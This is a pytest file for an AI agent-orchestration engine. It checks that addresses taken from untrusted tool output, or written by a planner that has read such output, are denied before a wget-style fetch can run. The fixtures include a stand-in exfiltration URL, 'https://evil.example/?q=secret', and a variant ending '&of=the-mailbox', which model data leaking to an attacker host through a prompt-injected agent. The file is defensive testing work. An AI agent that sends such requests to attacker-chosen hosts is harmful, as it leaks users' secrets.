"""Reads that go to an address which a stranger chose: denied, unless the file lets them pass."""

from __future__ import annotations

import sys

import pytest

from engine.events import CallFinished, CallStarted, ModelInfo, RunStarted
from engine.runtime.machine import fold
from engine.sema.trust import facts_of

EVIL = "https://evil.example/?q=secret"
TOOLS = f"""
def search(q):
    return [{{"url": "{EVIL}", "title": "a page"}}]
def links():
    return ["https://a.example/"]
def known(u):
    return u.startswith("https://a.example/") or "not known"
"""
WORKERS = """
schema Hit { url: string, title: string }
worker search(q: string) -> Hit[] via python {
  call = "tools:search"  trust = untrusted  timeout = 5s
}
worker links() -> string[] via python { call = "tools:links"  timeout = 5s }
/// The program is a stand-in: what counts is its name.
worker fetch(u: string%s, note: string = "") -> string via command {
  run = ["WGET", u]  stdin = note  effect = read  parse = text  timeout = 20s
}
worker fetch_all(found: Hit[], u: string = "https://a.example/") -> string[] via plan {
  max_items = 9
  step pages { each = found  call = fetch(u=%s) }
  result = pages
}
verifier known(u: string) via python { call = "tools:known"  timeout = 5s }
orchestrator main() -> string {
  model = planner  goal = "Look."  workers = [search, links, fetch, fetch_all]
  policy { max_rounds = 5  %s }
  %s
}
"""  # fmt: skip


def task(id, worker, **input):
    return {"id": id, "worker": worker, "input": input}


def decision(*tasks):
    return {"tasks": list(tasks)}


SEARCH = decision(task("s", "search", q="x"), task("l", "links"))
FOUND = {"$from": "s", "at": "/0/url"}
DONE = {"finish": "done"}


@pytest.fixture
def fetched(play, tmp_path):
    """Run a program; gives what was fetched, and why a fetch was denied."""
    wget = tmp_path / "wget"
    wget.write_text(f"#!{sys.executable}\nimport sys\nprint(sys.argv[1], end='')\n")
    wget.chmod(0o755)

    def fetched(planner, *, sources="", inner="item.url", policy="", rest=""):
        program = (WORKERS % (sources, inner, policy, rest)).replace("WGET", str(wget))
        run = play(program, [*planner, DONE], TOOLS)
        report = run.report()
        denials = [each["message"] for each in report["failures"] if each["mode"] == "denied"]
        done = [
            each["output"]
            for entry in report["history"]
            for each in entry["tasks"]
            if each["worker"] in ("fetch", "fetch_all") and each["status"] == "done"
        ]
        return done, denials

    return fetched


def test_an_address_that_a_tainted_planner_writes_is_not_requested(fetched):
    done, denials = fetched([SEARCH, decision(task("f", "fetch", u=EVIL))])
    assert done == []
    assert denials == [
        "untrusted text can reach `u`, which decides whom `fetch` talks to, and a request can "
        "carry data away: task `s` (`search`) -> a decision of `main`. To allow it, say where the "
        "address may come from, `u: ... @from(...)`, or let a `before_dispatch` hook look at it"
    ]


def test_neither_is_one_that_a_stranger_gives(fetched):
    # In the same decision: nothing that the planner wrote is a stranger's.
    both = decision(task("s", "search", q="x"), task("f", "fetch", u=FOUND))
    done, denials = fetched([both])
    assert done == []
    assert "task `s` (`search`) at `/0/url`. To allow" in denials[0]


def test_an_address_of_the_planner_before_it_has_read_anything_is_requested(fetched):
    done, denials = fetched([decision(task("f", "fetch", u="https://b.example/"))])
    assert (done, denials) == (["https://b.example/"], [])


def test_a_reference_to_a_trusted_output_is_requested_whoever_chose_it(fetched):
    trusted = task("f", "fetch", u={"$from": "l", "at": "/0"}, note=EVIL)
    done, denials = fetched([SEARCH, decision(trusted)])
    assert (done, denials) == (["https://a.example/"], [])


@pytest.mark.parametrize("address", [EVIL, FOUND], ids=["written", "referred to"])
def test_a_hook_that_passes_lets_it_start(fetched, address):
    hook = "verify { before_dispatch fetch { with = known  on_fail = abort } }"
    done, _ = fetched([SEARCH, decision(task("f", "fetch", u=address))], rest=hook)
    assert done == []
    trusted = "https://a.example/x"
    done, denials = fetched([SEARCH, decision(task("f", "fetch", u=trusted))], rest=hook)
    assert (done, denials) == ([trusted], [])


def test_at_from_lets_it_start(fetched):
    plan = [SEARCH, decision(task("f", "fetch", u=FOUND))]
    done, denials = fetched(plan, sources=" @from(request, search.url)")
    assert (done, denials) == ([EVIL], [])
    # But none that a planner has put together.
    made = EVIL + "&of=the-mailbox"
    done, denials = fetched(
        [SEARCH, decision(task("f", "fetch", u=made))], sources=" @from(request, search.url)"
    )
    assert done == []
    assert "`/u` must be from the request or `search.url`" in denials[0]


def test_a_step_of_a_decision_counts_as_a_task(fetched):
    def step(url, **more):
        each = {"$from": "s"}
        return decision({"id": "f", "worker": "fetch", "each": each, "input": {"u": url, **more}})

    policy = "max_items = 9"
    done, denials = fetched([SEARCH, step({"$item": "/url"})], policy=policy)
    assert done == []
    assert "`search`" in denials[0]
    done, denials = fetched([SEARCH, step(EVIL)], policy=policy)
    assert done == []
    assert "a decision of `main`" in denials[0]
    from_list = {"$from": "l", "at": "/0"}
    done, denials = fetched([SEARCH, step(from_list, note=EVIL)], policy=policy)
    assert denials == []


def test_steps_of_a_plan_worker_are_looked_at_too(fetched):
    plan = [decision(task("s", "search", q="x"), task("p", "fetch_all", found={"$from": "s"}))]
    done, denials = fetched(plan)
    assert done == []
    assert "can reach `u`, which decides" in denials[0]
    # What the file writes was chosen by its author.
    done, denials = fetched(plan, inner='"https://a.example/"')
    assert (done, denials) == ([["https://a.example/"]], [])


def folded(load, bounds):
    """A run in which a tainted planner asks for a page, as an engine with such bounds began it."""
    program = load((WORKERS % ("", "item.url", "", "")).replace("WGET", "wget"), TOOLS).program
    keys = "round 1 / decision 1", "round 1 / decision 1 / task s", "round 2 / decision 1"
    values = decision(task("s", "search", q="x")), [], decision(task("f", "fetch", u=EVIL))
    infos = {"planner": ModelInfo("memory/planner")}
    began = RunStarted(
        run="r", orchestrator="main", input={}, models=infos, program="p", bounds=bounds
    )
    events = [began]
    for key, value in zip(keys, values, strict=True):
        events += [CallStarted(key=key), CallFinished(key=key, value=value)]
    return fold(program, events)


def test_a_run_of_an_older_engine_is_folded_as_it_went(load):
    assert list(folded(load, 1).calls) == ["round 2 / decision 1 / task f"]
    assert folded(load, 2).loop.tasks["f"].failure.mode == "denied"


def test_an_http_worker_is_free_among_no_hosts_or_one(load):
    def address(url, *hosts):
        listed = ", ".join(f'"{host}"' for host in hosts)
        workflow = load(
            f"worker w(page: string, id: string, near: bool) -> json via http {{\n"
            f"  url = {url}  hosts = [{listed}]\n}}\n"
            'orchestrator main() -> string { model = planner  goal = "x"  workers = [w] '
            "policy { max_rounds = 1 } }"
        )
        return set(workflow.program.workers["w"].facts.address)

    two = ("a.example", "b.example")
    assert address("page", "a.example") == set()
    assert address("page", *two) == {"page"}
    assert address('"https://" ~ page ~ ".example/" ~ id', *two) == {"page"}
    assert address('page ~ "://" ~ id ~ "/x"', *two) == {"page", "id"}
    assert address('page ~ "/x/" ~ id', *two) == {"page"}
    assert address('"https://a.example/" ~ id ~ "?to=" ~ page', *two) == set()
    assert address('("https://a.example/" if near else "https://b.example/") ~ id', *two) == {
        "near"
    }
    assert address('{ a: "https://a.example", b: page }[id] ~ "/x"', *two) == {"page", "id"}
    assert address("(page | lower)", *two) == {"page"}


def test_programs_of_the_network_go_where_their_arguments_say(load):
    def address(run):
        workflow = load(
            "worker w(page: string, id: string) -> string via command {\n"
            f"  run = {run}  effect = read  parse = text  timeout = 5s\n}}\n"
            'orchestrator main() -> string { model = planner  goal = "x"  workers = [w] '
            "policy { max_rounds = 1 } }"
        )
        return set(workflow.program.workers["w"].facts.address)

    assert address('["curl", "-s", page]') == {"page"}
    assert address('["/usr/bin/wget", "--user", id, page ~ "/x"]') == {"page", "id"}
    assert address('["curl", "https://a.example/?q=" ~ id]') == set()
    assert address('["curl", "https://" ~ page ~ "/" ~ id]') == {"page"}
    assert address('["sort", page]') == set()


def test_code_in_a_sandbox_goes_where_its_file_says(load):
    def address(sandbox):
        workflow = load(
            'worker w(page: string, n: int) -> string via python {\n  call = "tools:search"\n'
            f"  args = {{ q: page ~ n }}  timeout = 5s  {sandbox}\n}}\n"
            'orchestrator main() -> string { model = planner  goal = "x"  workers = [w] '
            "policy { max_rounds = 1 } }",
            TOOLS,
        )
        program = workflow.program
        return set(facts_of(program, program.workers["w"]).address)

    assert address("sandbox { network = any }") == {"page"}
    assert address('sandbox { network = ["a.example", "b.example"] }') == set()
    assert address("sandbox { network = none }") == set()
    assert address("") == set()
